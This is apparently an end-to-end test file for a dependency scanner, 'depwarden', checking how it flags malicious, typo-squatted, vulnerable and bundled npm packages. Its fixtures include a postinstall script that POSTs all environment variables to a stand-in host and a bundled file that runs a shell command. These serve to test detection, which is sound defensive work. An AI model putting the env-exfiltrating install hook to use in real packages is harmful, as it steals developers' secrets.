// `depwarden scan` end to end, as users run it: fixture projects in every lockfile format
// against a local registry of synthetic packages (real HTTP, real tarballs, full packuments),
// with the advisory database imported from the shared OSV corpus. Asserts the report (JSON,
// validated against docs/report.schema.json), the terminal view and the exit codes.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { OSV_CORPUS_ZIP } from '../src/advisories/testing.js';
import { validateReport } from '../src/report/testing.js';
import type { ScanReport } from '../src/report/types.js';
import { runInProcess } from './helpers/cli.js';
import { prepareScan } from '../src/cli/commands/scan.js';
import { storeResults } from '../src/server/results.js';
import { collectSnapshot } from '../src/snapshot/index.js';
import { FsBlobStore } from '../src/store/index.js';

const walk = filesBelow;
import {
  FixtureRegistry,
  npmLockfile,
  packageJson,
  pnpmLockfile,
  yarnBerryLockfile,
  yarnV1Lockfile,
  type FixtureProject,
} from './helpers/fixture-registry.js';
import { filesBelow } from './helpers/files.js';

const INSTALL_JS = [
  "const https = require('https');",
  'const payload = JSON.stringify(process.env);',
  "const req = https.request({ hostname: 'collector.example.invalid', path: '/c', method: 'POST' });",
  'req.write(payload);',
  'req.end();',
  '',
].join('\n');

const PACKAGES = [
  {
    name: 'tiny-lib',
    versions: [
      { version: '0.9.0', files: { 'index.js': 'module.exports = (a) => a;\n' } },
      { version: '1.0.0', files: { 'index.js': 'module.exports = (a, b) => a + b;\n' } },
    ],
  },
  {
    name: 'jsonwebtoken',
    versions: [{ version: '8.5.1', files: { 'index.js': 'module.exports = {};\n' } }],
  },
  {
    name: 'evil-helper',
    publisher: 'mallory',
    versions: [
      {
        version: '1.0.1',
        files: {
          'package.json': JSON.stringify({ scripts: { postinstall: 'node install.js' } }),
          'index.js': 'module.exports = {};\n',
          'install.js': INSTALL_JS,
        },
      },
    ],
  },
  {
    name: 'lodahs',
    versions: [{ version: '4.17.21', files: { 'index.js': 'module.exports = {};\n' } }],
  },
  {
    // Ships its own copy of jsonwebtoken (bundleDependencies): that copy is what installs.
    name: 'bundler',
    versions: [
      {
        version: '1.0.0',
        dependencies: { jsonwebtoken: '^8.5.0' },
        files: {
          'package.json': JSON.stringify({ bundleDependencies: ['jsonwebtoken'] }),
          'index.js': "module.exports = require('jsonwebtoken');\n",
          'node_modules/jsonwebtoken/package.json': '{"name":"jsonwebtoken","version":"8.5.1"}',
          'node_modules/jsonwebtoken/index.js': "require('child_process').exec('id');\n",
        },
      },
    ],
  },
  {
    name: 'uses-tiny',
    versions: [
      {
        version: '2.0.0',
        files: { 'index.js': "module.exports = require('tiny-lib');\n" },
        dependencies: { 'tiny-lib': '^1.0.0' },
      },
    ],
  },
];

const CLEAN: FixtureProject = {
  name: 'clean-app',
  dependencies: { 'uses-tiny': '^2.0.0' },
  installed: ['uses-tiny@2.0.0', 'tiny-lib@1.0.0'],
};

describe('depwarden scan', () => {
  const registry = new FixtureRegistry();
  let root: string;
  let dataDir: string;
  let cacheDir: string;
  let url: string;

  before(async () => {
    root = await mkdtemp(join(tmpdir(), 'dw-scan-'));
    dataDir = join(root, 'data');
    cacheDir = join(root, 'cache');
    url = await registry.start(PACKAGES);
    const db = await runInProcess(
      ['db', 'update', '--from', OSV_CORPUS_ZIP, '--data-dir', dataDir],
      root,
    );
    assert.equal(db.code, 0, db.stderr);
  });
  after(async () => {
    await registry.stop();
    await rm(root, { recursive: true, force: true });
  });

  async function project(name: string, files: Record<string, string>): Promise<string> {
    const dir = join(root, name);
    for (const [path, text] of Object.entries(files)) {
      await mkdir(join(dir, path, '..'), { recursive: true });
      await writeFile(join(dir, path), text);
    }
    return dir;
  }

  async function scanJson(
    dir: string,
    ...flags: string[]
  ): Promise<{ code: number; report: ScanReport; stderr: string }> {
    const run = await runInProcess(
      [
        'scan',
        dir,
        '--format',
        'json',
        '--registry',
        url,
        '--data-dir',
        dataDir,
        '--cache-dir',
        cacheDir,
        ...flags,
      ],
      root,
      { NPM_CONFIG_USERCONFIG: join(root, 'none.npmrc') },
    );
    assert.ok(run.stdout.startsWith('{'), `no JSON report: ${run.stderr}`);
    const report = JSON.parse(run.stdout) as ScanReport;
    assert.deepEqual(validateReport(report), [], 'the report must match docs/report.schema.json');
    return { code: run.code, report, stderr: run.stderr };
  }

  const names = (r: ScanReport) => r.packages.map((p) => `${p.name}@${p.version}`).sort();

  for (const [format, write] of [
    ['npm', (p: FixtureProject) => ({ 'package-lock.json': npmLockfile(p, registry) })],
    ['yarn v1', (p: FixtureProject) => ({ 'yarn.lock': yarnV1Lockfile(p, registry) })],
    ['yarn berry', (p: FixtureProject) => ({ 'yarn.lock': yarnBerryLockfile(p, registry) })],
    ['pnpm', (p: FixtureProject) => ({ 'pnpm-lock.yaml': pnpmLockfile(p, registry) })],
  ] as const) {
    it(`scans a clean ${format} project: healthy, every package analysed, exit 0`, async () => {
      const dir = await project(`clean-${format.replace(' ', '-')}`, {
        'package.json': packageJson(CLEAN),
        ...write(CLEAN),
      });
      const { code, report } = await scanJson(dir);
      assert.equal(code, 0, JSON.stringify(report.failures));
      assert.deepEqual(names(report), ['tiny-lib@1.0.0', 'uses-tiny@2.0.0']);
      assert.equal(report.verdict.healthy, true);
      assert.equal(report.verdict.complete, true);
      const tiny = report.packages.find((p) => p.name === 'tiny-lib')!;
      assert.deepEqual(tiny.via, ['uses-tiny@2.0.0', 'tiny-lib@1.0.0']);
      assert.equal(report.snapshot.lockfiles.length, 1);
      assert.notEqual(report.advisories.status, 'missing');
      assert.ok(report.advisories.importedAt !== undefined);
      assert.match(report.registry.url, /^http:\/\/127\.0\.0\.1:\d+\/$/);
      assert.ok(tiny.scores !== undefined && tiny.scores.overall > 0);
    });
  }

  it('blocks on a malicious dependency (exit 1) and says how it is reached and what to do', async () => {
    const p: FixtureProject = {
      name: 'victim',
      dependencies: { 'evil-helper': '^1.0.0', 'uses-tiny': '^2.0.0' },
      installed: ['evil-helper@1.0.1', 'uses-tiny@2.0.0', 'tiny-lib@1.0.0'],
    };
    const dir = await project('malicious', {
      'package.json': packageJson(p),
      'package-lock.json': npmLockfile(p, registry),
    });
    const { code, report } = await scanJson(dir);
    assert.equal(code, 1);
    const malware = report.alerts.find((a) => a.type === 'malware');
    assert.ok(malware !== undefined, `types: ${report.alerts.map((a) => a.type).join(',')}`);
    assert.equal(malware.action, 'error');
    assert.equal(malware.blocking, true);
    assert.equal(malware.fix.type, 'remove');
    assert.equal(report.alerts[0]!.key, malware.key, 'blocking alerts come first');
    const terminal = await runInProcess(
      ['scan', dir, '--registry', url, '--data-dir', dataDir, '--cache-dir', cacheDir],
      root,
      { NPM_CONFIG_USERCONFIG: join(root, 'none.npmrc') },
    );
    assert.equal(terminal.code, 1);
    assert.match(terminal.stdout, /evil-helper@1\.0\.1/);
    assert.match(terminal.stdout, /install\.js/);
  });

  it('finds a typo-squat and a vulnerable version, with the fixed version to upgrade to', async () => {
    const p: FixtureProject = {
      name: 'typos',
      dependencies: { lodahs: '^4.17.0', jsonwebtoken: '^8.5.0' },
      installed: ['lodahs@4.17.21', 'jsonwebtoken@8.5.1'],
    };
    const dir = await project('typo-vuln', {
      'package.json': packageJson(p),
      'package-lock.json': npmLockfile(p, registry),
    });
    const { code, report } = await scanJson(dir);
    const squat = report.alerts.find((a) => a.type === 'didYouMean');
    assert.ok(squat !== undefined);
    assert.equal(squat.props?.alternatePackage, 'lodash');
    const vuln = report.alerts.find(
      (a) =>
        a.category === 'vulnerability' &&
        report.packages.find((x) => x.id === a.package)?.name === 'jsonwebtoken',
    );
    assert.ok(vuln !== undefined, 'jsonwebtoken 8.5.1 has a HIGH advisory in the corpus');
    assert.equal(vuln.fix.type, 'upgrade');
    assert.equal(vuln.fix.version, '9.0.0');
    // Default policy: didYouMean warns and CVEs are monitored, so nothing blocks...
    assert.equal(code, 0);
    // ...unless the team fails on high severities.
    const strict = await scanJson(dir, '--fail-on', 'high');
    assert.equal(strict.code, 1);
    assert.equal(strict.report.options.failOn, 'high');
  });

  it('never fetches a bundled dependency: its files are analysed in the bundling package, its advisories still apply', async () => {
    const p: FixtureProject = {
      name: 'bundles',
      dependencies: { bundler: '^1.0.0' },
      installed: ['bundler@1.0.0'],
    };
    // As npm writes it: the bundled entry has no resolved URL and no integrity, and inBundle.
    const lock = JSON.parse(npmLockfile(p, registry)) as { packages: Record<string, unknown> };
    lock.packages['node_modules/bundler/node_modules/jsonwebtoken'] = {
      version: '8.5.1',
      inBundle: true,
    };
    const dir = await project('bundled', {
      'package.json': packageJson(p),
      'package-lock.json': JSON.stringify(lock, null, 2),
    });
    const tarball = '/jsonwebtoken/-/jsonwebtoken-8.5.1.tgz';
    const before = registry.server.hits(tarball);
    const { code, report } = await scanJson(dir);
    assert.equal(code, 0);
    assert.equal(
      report.verdict.complete,
      true,
      'a bundled package does not make a scan incomplete',
    );
    assert.equal(registry.server.hits(tarball), before, 'the registry copy is not what installs');
    const jwt = report.packages.find((x) => x.name === 'jsonwebtoken')!;
    assert.equal(jwt.status, 'skipped');
    assert.equal(jwt.bundled, true);
    assert.equal(jwt.files, undefined, 'its files are counted in the bundling package');
    assert.deepEqual(jwt.via, ['bundler@1.0.0', 'jsonwebtoken@8.5.1']);
    const types = (id: string) => report.alerts.filter((a) => a.package === id).map((a) => a.type);
    // Its advisory is about the version, wherever its files come from.
    assert.ok(
      report.alerts.some((a) => a.package === jwt.id && a.category === 'vulnerability'),
      `jsonwebtoken@8.5.1's advisory: ${types(jwt.id).join(', ')}`,
    );
    assert.ok(!types(jwt.id).includes('shellAccess'));
    // The bundled copy's code is the bundling package's, with the file it is in.
    const shell = report.alerts.find(
      (a) => a.type === 'shellAccess' && a.package === 'registry:bundler@1.0.0',
    );
    assert.equal(shell?.evidence[0]?.file, 'node_modules/jsonwebtoken/index.js');
  });

  it('honours accepted risks, and reports an expired acceptance as applying again', async () => {
    const p: FixtureProject = {
      name: 'accepting',
      dependencies: { lodahs: '^4.17.0' },
      installed: ['lodahs@4.17.21'],
    };
    const base = { 'package.json': packageJson(p), 'package-lock.json': npmLockfile(p, registry) };
    const yml = (expires: string) =>
      `version: 2\nacceptedRisks:\n  - package: lodahs@4.17.21\n    alerts: [didYouMean]\n    reason: internal fork, reviewed by security\n    expires: ${expires}\n`;
    const accepted = await scanJson(
      await project('accepted', { ...base, 'socket.yml': yml('2999-12-31') }),
      '--fail-on',
      'warn',
    );
    assert.equal(accepted.code, 0);
    const a = accepted.report.alerts.find((x) => x.type === 'didYouMean')!;
    assert.equal(a.accepted?.reason, 'internal fork, reviewed by security');
    assert.equal(a.accepted?.line, 3);
    assert.equal(a.blocking, false);
    assert.equal(accepted.report.acceptedRisks[0]?.status, 'active');

    const expired = await scanJson(
      await project('expired', { ...base, 'socket.yml': yml('2020-01-01') }),
      '--fail-on',
      'warn',
    );
    assert.equal(expired.code, 1);
    const e = expired.report.alerts.find((x) => x.type === 'didYouMean')!;
    assert.equal(e.accepted, undefined);
    assert.equal(e.acceptanceExpired?.expires, '2020-01-01');
    assert.equal(expired.report.acceptedRisks[0]?.status, 'expired');
    assert.ok(expired.report.warnings.some((w) => /expired on 2020-01-01/.test(w)));
  });

  it("checks the project's own dependency specs and applies the license policy", async () => {
    const p: FixtureProject = {
      name: 'policy',
      dependencies: { 'tiny-lib': '^1.0.0' },
      installed: ['tiny-lib@1.0.0'],
    };
    const manifest = JSON.parse(packageJson(p)) as Record<string, Record<string, string>>;
    manifest.devDependencies = { 'build-tool': 'git+https://example.invalid/build-tool.git#main' };
    const dir = await project('policy', {
      'package.json': JSON.stringify(manifest, null, 2),
      'package-lock.json': npmLockfile(p, registry),
      'socket.yml': 'version: 2\nlicensePolicy:\n  allow: [Apache-2.0]\n',
    });
    const { code, report } = await scanJson(dir);
    const git = report.alerts.find((a) => a.type === 'gitDependency');
    assert.ok(git !== undefined, "a git spec in the project's devDependencies");
    assert.equal(git.evidence[0]?.file, 'package.json');
    assert.equal(git.evidence[0]?.line, 8);
    const violation = report.alerts.find((a) => a.type === 'licensePolicyViolation');
    assert.ok(
      violation !== undefined,
      'tiny-lib declares no license, and only Apache-2.0 is allowed',
    );
    assert.equal(violation.action, 'error');
    assert.equal(code, 1);
  });

  it('issueRules false hides a type from the verdict', async () => {
    const p: FixtureProject = {
      name: 'rules',
      dependencies: { 'evil-helper': '^1.0.0' },
      installed: ['evil-helper@1.0.1'],
    };
    const dir = await project('rules', {
      'package.json': packageJson(p),
      'package-lock.json': npmLockfile(p, registry),
      'socket.yml': 'version: 2\nissueRules:\n  malware: false\n',
    });
    const { code, report } = await scanJson(dir);
    const m = report.alerts.find((a) => a.type === 'malware')!;
    assert.equal(m.action, 'ignore');
    assert.equal(m.actionSource, 'issueRules');
    assert.equal(code, 0);
  });

  it('resolves a package.json-only project as npm would, and warns it is not reproducible', async () => {
    const dir = await project('no-lock', {
      'package.json': packageJson({ ...CLEAN, dependencies: { 'uses-tiny': '^2.0.0' } }),
    });
    const { code, report } = await scanJson(dir);
    assert.equal(code, 0, JSON.stringify(report.failures));
    assert.deepEqual(
      names(report),
      ['tiny-lib@1.0.0', 'uses-tiny@2.0.0'],
      'latest matching, transitive included',
    );
    assert.ok(report.warnings.some((w) => /not reproducible/.test(w)));
  });

  it('scans a monorepo with workspaces and reports each package once', async () => {
    const p: FixtureProject = {
      name: 'mono',
      dependencies: { 'tiny-lib': '^1.0.0' },
      installed: ['tiny-lib@1.0.0', 'uses-tiny@2.0.0'],
    };
    const lock = JSON.parse(npmLockfile(p, registry)) as { packages: Record<string, unknown> };
    lock.packages[''] = {
      name: 'mono',
      version: '1.0.0',
      workspaces: ['packages/*'],
      dependencies: { 'tiny-lib': '^1.0.0' },
    };
    lock.packages['packages/web'] = {
      name: 'web',
      version: '1.0.0',
      dependencies: { 'uses-tiny': '^2.0.0' },
    };
    lock.packages['node_modules/web'] = { resolved: 'packages/web', link: true };
    const dir = await project('mono', {
      'package.json': JSON.stringify({
        name: 'mono',
        version: '1.0.0',
        workspaces: ['packages/*'],
        dependencies: { 'tiny-lib': '^1.0.0' },
      }),
      'packages/web/package.json': JSON.stringify({
        name: 'web',
        version: '1.0.0',
        dependencies: { 'uses-tiny': '^2.0.0' },
      }),
      'package-lock.json': JSON.stringify(lock, null, 2),
    });
    const { code, report } = await scanJson(dir);
    assert.equal(code, 0, JSON.stringify(report.failures));
    const regs = report.packages.filter((x) => x.source === 'registry');
    assert.deepEqual(regs.map((x) => x.name).sort(), ['tiny-lib', 'uses-tiny']);
    assert.equal(regs.find((x) => x.name === 'uses-tiny')?.importer, 'packages/web');
  });

  it('exits 2 and lists the package when a tarball cannot be fetched', async () => {
    const p: FixtureProject = {
      name: 'broken',
      dependencies: { 'uses-tiny': '^2.0.0' },
      installed: ['uses-tiny@2.0.0', 'tiny-lib@1.0.0'],
    };
    // A package the registry has never heard of: no tarball and no packument.
    const parsed = JSON.parse(npmLockfile(p, registry)) as { packages: Record<string, unknown> };
    (parsed.packages[''] as { dependencies: Record<string, string> }).dependencies.ghost = '^1.0.0';
    parsed.packages['node_modules/ghost'] = {
      version: '1.0.0',
      resolved: 'https://registry.npm.example/ghost/-/ghost-1.0.0.tgz',
      integrity: 'sha512-' + Buffer.alloc(64, 7).toString('base64'),
    };
    const lock = JSON.stringify(parsed, null, 2);
    const dir = await project('broken', {
      'package.json': packageJson(p),
      'package-lock.json': lock,
    });
    const { code, report } = await scanJson(dir, '--no-cache');
    assert.equal(code, 2);
    assert.equal(report.verdict.complete, false);
    assert.equal(report.failures[0]?.stage, 'fetch');
    assert.match(report.failures[0]?.package ?? '', /ghost@1\.0\.0/);
    assert.equal(report.packages.find((x) => x.name === 'ghost')?.status, 'failed');
  });

  it('a warm scan answers from the cache, offline, with the same report', async () => {
    const dir = await project('warm', {
      'package.json': packageJson(CLEAN),
      'package-lock.json': npmLockfile(CLEAN, registry),
    });
    const cold = await scanJson(dir);
    const before = registry.server.requests.length;
    const warm = await scanJson(dir, '--offline');
    assert.equal(registry.server.requests.length, before, 'no request when everything is cached');
    assert.equal(warm.report.summary.cached, warm.report.summary.packages);
    const strip = (r: ScanReport) =>
      JSON.stringify({
        ...r,
        generatedAt: '',
        summary: { ...r.summary, analysed: 0, cached: 0 },
        registry: { ...r.registry, offline: false },
        packages: r.packages.map((x) => ({ ...x, status: '' })),
      });
    assert.equal(strip(warm.report), strip(cold.report));
  });

  it('diff of two git refs: the new dependency, its alerts, exit 1 only for new blocking ones', async () => {
    const repo = join(root, 'git-repo');
    await mkdir(repo, { recursive: true });
    const git = (...a: string[]) =>
      execFileSync(
        'git',
        ['-C', repo, '-c', 'user.name=t', '-c', 'user.email=t@example.invalid', ...a],
        { stdio: 'pipe' },
      );
    git('init', '-q', '-b', 'main');
    const base: FixtureProject = {
      name: 'app',
      dependencies: { 'uses-tiny': '^2.0.0' },
      installed: ['uses-tiny@2.0.0', 'tiny-lib@1.0.0'],
    };
    await writeFile(join(repo, 'package.json'), packageJson(base));
    await writeFile(join(repo, 'package-lock.json'), npmLockfile(base, registry));
    await writeFile(join(repo, 'index.js'), 'not part of any snapshot\n');
    git('add', '.');
    git('commit', '-q', '-m', 'base');
    const head: FixtureProject = {
      ...base,
      dependencies: { ...base.dependencies, 'evil-helper': '^1.0.0' },
      installed: [...base.installed, 'evil-helper@1.0.1'],
    };
    await writeFile(join(repo, 'package.json'), packageJson(head));
    await writeFile(join(repo, 'package-lock.json'), npmLockfile(head, registry));
    git('commit', '-q', '-am', 'add evil-helper');
    const status = git('status', '--porcelain').toString();

    const common = [
      '--repo',
      repo,
      '--registry',
      url,
      '--data-dir',
      dataDir,
      '--cache-dir',
      cacheDir,
    ];
    const env = { NPM_CONFIG_USERCONFIG: join(root, 'none.npmrc') };
    const json = await runInProcess(
      ['diff', 'main~1', 'main', '--format', 'json', ...common],
      root,
      env,
    );
    assert.equal(json.code, 1, json.stderr);
    const diff = JSON.parse(json.stdout) as {
      changes: { kind: string; name: string }[];
      newAlerts: { type: string }[];
    };
    assert.deepEqual(
      diff.changes.map((c) => `${c.kind} ${c.name}`),
      ['added evil-helper'],
    );
    assert.ok(diff.newAlerts.some((a) => a.type === 'malware'));

    const md = await runInProcess(
      ['diff', 'main~1', 'main', '--format', 'markdown', ...common],
      root,
      env,
    );
    assert.equal(md.code, 1);
    assert.match(md.stdout, /evil-helper/);
    assert.ok(md.stdout.length <= 65_000);

    // The same ref on both sides: nothing new, exit 0, and the repository is untouched.
    const same = await runInProcess(['diff', 'main', 'main', ...common], root, env);
    assert.equal(same.code, 0, same.stderr);
    assert.equal(git('status', '--porcelain').toString(), status);
    const bad = await runInProcess(['diff', 'no-such-ref', 'main', ...common], root, env);
    assert.equal(bad.code, 3);
    assert.match(bad.stderr, /not a commit/);
  });

  it('a second server process with an empty cache reuses the outcomes the first sealed into the store', async () => {
    const dir = await project('shared', {
      'package.json': packageJson(CLEAN),
      'package-lock.json': npmLockfile(CLEAN, registry),
    });
    const store = await FsBlobStore.open(join(root, 'shared-store'));
    const shared = storeResults(store, Buffer.alloc(32, 3));
    const ctx = {
      stdout: process.stdout,
      stderr: process.stderr,
      cwd: root,
      env: { CI: '1', NPM_CONFIG_USERCONFIG: join(root, 'none.npmrc') },
    };
    const scanWith = async (cache: string) => {
      const setup = await prepareScan(
        { registry: url, 'data-dir': dataDir, 'cache-dir': join(root, cache), quiet: true },
        ctx,
        dir,
        true,
        shared,
      );
      try {
        return await setup.scan(await collectSnapshot(dir));
      } finally {
        await setup.close();
      }
    };
    const first = await scanWith('cache-process-1');
    assert.equal(
      first.summary.analysed,
      2,
      JSON.stringify({ s: first.summary, f: first.failures, w: first.warnings }),
    );
    const before = registry.server.requests.length;
    const second = await scanWith('cache-process-2');
    assert.equal(second.summary.cached, 2);
    assert.equal(registry.server.requests.length, before, 'nothing fetched again');
    // The store shows neither package names nor findings.
    for (const path of await walk(join(root, 'shared-store'))) {
      const bytes = await readFile(path);
      assert.ok(
        !bytes.includes(Buffer.from('tiny-lib')) && !bytes.includes(Buffer.from('uses-tiny')),
        path,
      );
    }
    await store.close();
  });

  it('writes every format with --output, and refuses an unknown format with exit 3', async () => {
    const dir = await project('formats', {
      'package.json': packageJson(CLEAN),
      'package-lock.json': npmLockfile(CLEAN, registry),
    });
    for (const format of ['terminal', 'json', 'sarif', 'markdown', 'html', 'cyclonedx']) {
      const out = join(root, `report.${format}`);
      const run = await runInProcess(
        [
          'scan',
          dir,
          '--format',
          format,
          '--output',
          out,
          '--registry',
          url,
          '--data-dir',
          dataDir,
          '--cache-dir',
          cacheDir,
        ],
        root,
        { NPM_CONFIG_USERCONFIG: join(root, 'none.npmrc') },
      );
      assert.equal(run.code, 0, run.stderr);
      assert.equal(run.stdout, '');
      assert.match(run.stderr, /healthy: 2 packages/);
      assert.ok((await readFile(out, 'utf8')).length > 100);
    }
    const empty = await runInProcess(
      ['scan', await project('empty', { 'socket.yml': 'version: 2\n' })],
      root,
    );
    assert.equal(empty.code, 3);
    assert.match(empty.stderr, /no package\.json or lockfile/);
    const bad = await runInProcess(['scan', dir, '--format', 'pdf'], root);
    assert.equal(bad.code, 3);
    assert.match(bad.stderr, /--format takes one of/);
  });
});
